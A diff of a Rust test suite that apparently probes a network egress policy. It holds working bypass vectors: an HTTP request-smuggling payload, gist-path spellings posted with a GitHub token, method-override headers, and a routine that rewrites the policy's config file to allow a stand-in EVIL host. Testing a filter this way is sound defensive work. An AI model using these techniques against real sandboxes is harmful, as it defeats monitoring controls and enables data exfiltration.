@@ -1,18 +1,18 @@
 //! Getting packets past the policy: what counts is that a server of the rig's sees the mark.
 
-use crate::dial::{self, any_of, fetch_through, get, query, request, through};
+use super::get_by_settings;
+use crate::dial::{self, any_of, fetch_through, get, github, query, request, through, variable};
 use crate::rig::{EVIL, EVIL_ADDRESS, EVIL_ADDRESS_6, HOST_SERVICE, OK, PROXY, PROXY_PORT, REBIND};
 use crate::scene::{Arm, Scene};
 use crate::sys;
 use crate::vector::Condition::{ParentProxy, Wildcard};
 use crate::vector::Evidence::{Arrived, Done};
 use crate::vector::Group::Packets;
-use crate::vector::{Attacked, Stop, Tried, Vector, held, outside, untried};
+use crate::vector::{Attacked, SEEN, Stop, Tried, Vector, held, outside, untried};
 use std::io::{Read, Write};
 use std::net::UdpSocket;
+use std::path::PathBuf;
 use std::time::Duration;
-
-const SEEN: crate::vector::Evidence = Arrived("");
 
 /// The first 47 vectors.
 pub(super) const VECTORS: &[Vector] = &[
@@ -129,25 +129,16 @@ pub(super) const VECTORS: &[Vector] = &[
     held(32, Packets, "a request hidden in another (two lengths)", SEEN, |_, mark| {
         let hidden = format!("GET /{mark} HTTP/1.1\r\nhost: {EVIL}\r\n\r\n");
         let text = format!(
-            "POST / HTTP/1.1\r\nhost: {OK}\r\nconnection: close\r\ncontent-length: {}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
+            "POST / HTTP/1.1\r\nhost: {OK}\r\nconnection: close\r\ncontent-length: {}\r\n\
+             transfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
             hidden.len() + 5
         );
         dial::clear(OK, 80, text.as_bytes())
     }),
     held(33, Packets, "another spelling of a path that is denied", SEEN, |_, mark| {
-        let token = std::env::var("GH_TOKEN").unwrap_or_default();
-        let ask = |path: &str| {
-            dial::https(
-                "POST",
-                "api.github.com",
-                path,
-                &[("authorization", &format!("Bearer {token}"))],
-                &format!("{{\"x\":\"{mark}\"}}"),
-            )
-        };
-        any_of(
-            ["/Gists", "//gists", "/x/../gists", "/%67ists", "/gists;x", "/gists/", "/gists%2F", "/./gists"].map(ask),
-        )
+        let spellings =
+            ["/Gists", "//gists", "/x/../gists", "/%67ists", "/gists;x", "/gists/", "/gists%2F", "/./gists"];
+        any_of(spellings.map(|path| github("POST", path, &format!("{{\"x\":\"{mark}\"}}"))))
     }),
     held(34, Packets, "another method by a field", SEEN, |_, mark| {
         let fields = [("X-HTTP-Method-Override", mark), ("X_Method_Override", mark), ("X-HTTP-Method", mark)];
@@ -243,17 +234,8 @@ fn own_proxy(_: &Scene, mark: &str) -> Tried {
 }
 
 fn edit_policy(scene: &Scene, mark: &str) -> Tried {
-    let allow = format!("[[allow]]\nhosts = [\"{EVIL}\"]\nports = [80]\n");
-    let home = std::env::var("HOME").unwrap_or_default();
-    for file in
-        [format!("{home}/.config/standin/config.toml"), scene.host("config/standin/config.toml").display().to_string()]
-    {
-        if let Some(directory) = std::path::Path::new(&file).parent() {
-            // Where it cannot be written, it is not changed; what counts is what is let through afterwards.
-            std::fs::create_dir_all(directory).and_then(|()| std::fs::write(&file, &allow)).ok();
-        }
-    }
-    get(EVIL, 80, &path(mark))
+    let in_home = PathBuf::from(variable("HOME")?).join(".config/standin/config.toml");
+    get_by_settings([in_home, scene.host("config/standin/config.toml")], mark)
 }
 
 fn socks(name: &str, mark: &str) -> Tried {
@@ -311,8 +293,8 @@ fn upgraded(_: &Scene, mark: &str) -> Tried {
     let socket = dial::connect(OK, 443).attacked("connecting")?;
     let mut stream = dial::secure(socket, OK, &[])?;
     let upgrade = format!(
-        "GET /upgrade HTTP/1.1\r\nhost: {OK}\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n\
-         sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+        "GET /upgrade HTTP/1.1\r\nhost: {OK}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
+         sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
     );
     stream.write_all(upgrade.as_bytes()).attacked("asking")?;
     let mut reply = [0; 1024];
